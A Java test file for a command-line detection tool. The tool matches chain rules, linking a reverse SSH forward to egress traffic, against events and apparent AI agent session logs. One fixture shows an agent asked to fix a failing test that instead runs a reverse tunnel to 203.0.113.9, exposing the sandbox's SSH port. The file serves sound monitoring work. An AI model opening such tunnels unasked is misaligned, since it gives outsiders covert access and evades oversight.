package dev.offscript.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Chain rules from the command line: on raw events, in their own examples, over a case. */
class ChainRulesTest {

  private static final String RULES =
      """
      title: Reverse forward
      name: forward
      logsource: {product: linux, category: process_creation}
      detection: {selection: {CommandLine|contains: ' -R '}, condition: selection}
      level: high
      ---
      title: Forward and its traffic
      id: 0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002
      type: chain
      behaviour: tunneling
      author: Ada
      license: MIT
      anchor: {any: [forward]}
      by: {host: [host.name, source.ip]}
      steps:
        - {stage: task, kind: prompt, before: execution, optional: true}
        - {stage: execution, rules: anchor}
        - {stage: egress, kind: flow, within: 60s of execution, join: endpoint}
      severity: {unprompted: medium, requested: informational}
      tests:
        match:
          - - {at: 0s, CommandLine: 'ssh -R 1:localhost:1 h', host.name: a, destination.ip: 203.0.113.9}
            - {at: 60s, offscript.kind: flow, host.name: a, destination.ip: 203.0.113.9}
        no-match:
          - - {at: 0s, CommandLine: 'ssh -R 1:localhost:1 h', host.name: a, destination.ip: 203.0.113.9}
            - {at: 61s, offscript.kind: flow, host.name: a, destination.ip: 203.0.113.9}
      """;

  private static final String EVENTS =
      """
      {"CommandLine": "ssh -R 1:localhost:1 h", "host": {"name": "a"}, "destination.ip": "203.0.113.9", "@timestamp": "2026-03-01T10:00:00Z"}
      {"offscript.kind": "flow", "host.name": "a", "destination.ip": "203.0.113.9", "@timestamp": "2026-03-01T10:01:00.000000000Z"}
      {"CommandLine": "ssh -R 1:localhost:1 h", "host.name": "b", "destination.ip": "203.0.113.9", "@timestamp": "2026-03-01T10:00:00Z"}
      {"offscript.kind": "flow", "host.name": "b", "destination.ip": "203.0.113.9", "@timestamp": "2026-03-01T10:01:11Z"}
      """;

  @TempDir private Path directory;

  private Path file(String name, String text) throws IOException {
    return Files.writeString(directory.resolve(name), text);
  }

  @Test
  void matches_print_their_results_and_near_misses_after_the_events() throws IOException {
    Cli.Result result =
        Cli.launch("rules", "match", file("r.yml", RULES), "--events", file("e", EVENTS), "--raw");

    assertThat(result.errors()).isEmpty();
    assertThat(result.output())
        .endsWith(
            """
            {"chain": "0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002", "anchor": 0, "steps": [{"stage": "execution", "event": 0}, {"stage": "egress", "event": 1, "because": "60 s after execution, limit 60s; shares 203.0.113.9"}], "near_misses": []}
            {"near_miss": "0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002", "anchor": 2, "stage": "egress", "because": "flow 71 s after execution, limit 60s"}
            """);
  }

  @Test
  void a_batch_has_chains_only_where_its_rules_do() throws IOException {
    String events = "[" + String.join(",", EVENTS.strip().split("\n")) + "]";
    String with =
        JsonMapper.shared().writeValueAsString(java.util.Map.of("id", "x", "rules", RULES));
    String batch =
        with.substring(0, with.length() - 1)
            + ", \"events\": "
            + events
            + "}\n{\"id\": \"y\", \"rules\": \"title: t\", \"events\": []}\n";

    Cli.Result result = Cli.launch("rules", "match", "--batch", file("b.ndjson", batch));

    List<JsonNode> lines = new ArrayList<>();
    result.output().lines().forEach(line -> lines.add(JsonMapper.shared().readTree(line)));
    assertThat(lines.get(0).path("chains").path(0).path("steps").path(1).path("event").asInt())
        .isEqualTo(1);
    assertThat(lines.get(1).has("chains")).isFalse();
  }

  @Test
  void its_own_examples_are_run() throws IOException {
    Cli.Result result = Cli.launch("rules", "test", file("r.yml", RULES));

    assertThat(result.output()).isEqualTo("2 passed, 0 failed\n");
    assertThat(result.code()).isZero();
  }

  @Test
  void an_example_that_comes_out_otherwise_fails() throws IOException {
    Cli.Result result =
        Cli.launch("rules", "test", file("r.yml", RULES.replace("at: 61s", "at: 59s")));

    assertThat(result.output()).contains("line 25: must not match:").endsWith("1 failed\n");
    assertThat(result.code()).isEqualTo(3);
  }

  @Test
  void check_lists_chain_rules_and_warns_of_names_that_fit_nothing() throws IOException {
    Cli.Result result =
        Cli.launch(
            "rules",
            "check",
            file("r.yml", RULES.replace("any: [forward]", "any: [fwd, 'tunneling/*']")));

    assertThat(result.output())
        .contains("ok       ")
        .contains(
            "Forward and its traffic: 'fwd': no rule that is loaded fits this name [chain-unknown-rule]")
        .doesNotContain("'tunneling/*'");
  }

  @Test
  void explain_says_for_each_anchor_what_holds_and_what_misses() throws IOException {
    Cli.Result result =
        Cli.launch("rules", "explain", file("r.yml", RULES), file("e.ndjson", EVENTS));

    assertThat(result.output())
        .contains("match     0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002 from event 0")
        .contains("it is event 1")
        .contains("no match  0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002 from event 2")
        .contains(
            "within the limits: none; the nearest is event 3: flow 71 s after execution, limit")
        .contains("a near miss: egress: flow 71 s after execution, limit 60s");
  }

  private static final String SESSION =
      """
      {"type":"user","uuid":"u0","parentUuid":null,"sessionId":"s","timestamp":"2026-03-01T10:00:00Z","message":{"role":"user","content":"%s"}}
      {"type":"assistant","uuid":"u1","parentUuid":"u0","sessionId":"s","timestamp":"2026-03-01T10:02:00Z","message":{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"Bash","input":{"command":"ssh -N -R 7022:localhost:22 svc@203.0.113.9 -p 443"}}]}}
      {"type":"user","uuid":"r1","parentUuid":"u1","sessionId":"s","timestamp":"2026-03-01T10:02:01Z","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":"done"}]}}
      """;

  private static final String FLOW =
      """
      {"timestamp":"2026-03-01T10:%1$sZ","event_type":"flow","src_ip":"%2$s","src_port":40000,"dest_ip":"203.0.113.9","dest_port":443,"proto":"TCP","flow":{"start":"2026-03-01T10:%1$sZ","end":"2026-03-01T10:20:00Z","bytes_toserver":1200,"bytes_toclient":5000}}
      """;

  private JsonNode investigate(String task, String flows, Path caseDirectory) throws IOException {
    Path evidence = Files.createDirectories(directory.resolve("evidence"));
    Files.writeString(evidence.resolve("s.jsonl"), SESSION.formatted(task));
    Files.writeString(evidence.resolve("eve.json"), flows);
    Files.writeString(evidence.resolve("hosts.csv"), "host,ip,session\nsbx-1,10.0.0.71,s\n");
    Cli.Result result =
        Cli.launch(
            "investigate",
            evidence,
            "--rules",
            file("r.yml", RULES),
            "--case",
            caseDirectory,
            "--format",
            "json",
            "--quiet");
    assertThat(result.code()).as(result.errors()).isZero();
    return JsonMapper.shared().readTree(result.output());
  }

  private static List<JsonNode> findings(JsonNode report, String rule) {
    List<JsonNode> findings = new ArrayList<>();
    report
        .path("findings")
        .forEach(
            one -> {
              if (one.path("rule").asString().equals(rule)) {
                findings.add(one);
              }
            });
    return findings;
  }

  @Test
  void over_a_case_a_chain_rule_is_a_finding_and_names_the_chain_of_its_act() throws IOException {
    JsonNode report =
        investigate(
            "Fix the failing test.",
            FLOW.formatted("02:01", "10.0.0.71"),
            directory.resolve("case"));

    List<JsonNode> findings = findings(report, "0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002");
    assertThat(findings).hasSize(1);
    List<String> stages = new ArrayList<>();
    findings.get(0).path("members").forEach(m -> stages.add(m.path("stage").asString()));
    assertThat(stages).containsExactly("task", "execution", "egress");
    assertThat(findings.get(0).path("author").asString()).isEqualTo("Ada");
    JsonNode chain = report.path("chains").path(0);
    List<String> named = new ArrayList<>();
    chain.path("chain_rules").forEach(rule -> named.add(rule.path("rule").asString()));
    assertThat(named)
        .contains("chains/tunnel-with-traffic", "0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002");
    assertThat(chain.path("severity").asString()).isEqualTo("critical");
  }

  @Test
  void another_hosts_traffic_is_none_of_it() throws IOException {
    JsonNode report =
        investigate(
            "Fix the failing test.",
            FLOW.formatted("02:01", "10.0.0.99"),
            directory.resolve("case"));

    assertThat(findings(report, "0e6c3a52-5d0e-4a0e-8c0d-2a51a8a0c002")).isEmpty();
    assertThat(findings(report, "chains/tunnel-with-traffic")).isEmpty();
  }

  @Test
  void a_case_explains_why_a_chain_rule_does_not_hold() throws IOException {
    Path caseDirectory = directory.resolve("case");
    JsonNode report =
        investigate("Fix the failing test.", FLOW.formatted("04:30", "10.0.0.71"), caseDirectory);
    JsonNode near = report.path("chains").path(0).path("near_misses");
    String event = findings(report, "tunneling/ssh-remote-forward").get(0).path("event").asString();

    Cli.Result result =
        Cli.launch(
            "rules", "explain", "chains/tunnel-with-traffic", event, "--case", caseDirectory);

    assertThat(near.toString()).contains("Tunnel and its traffic: flow 149 s after execution");
    assertThat(result.output())
        .startsWith("no match  chains/tunnel-with-traffic from event " + event)
        .contains("session is s, host is sbx-1 and 10.0.0.71")
        .contains("a near miss: egress: flow 149 s after execution, limit 60s");
  }
}
